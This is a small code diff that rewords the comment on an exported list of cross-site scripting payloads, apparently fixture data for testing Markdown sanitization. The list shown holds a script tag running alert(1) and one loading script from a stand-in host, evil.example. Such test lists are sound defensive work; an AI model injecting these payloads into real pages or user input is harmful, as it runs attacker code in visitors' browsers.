@@ -1,4 +1,4 @@
-/** What has run as a script somewhere: every one is Markdown that an editor or an import could hold. */
+/** Known XSS payloads that Markdown input may contain. */
 export const XSS_PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
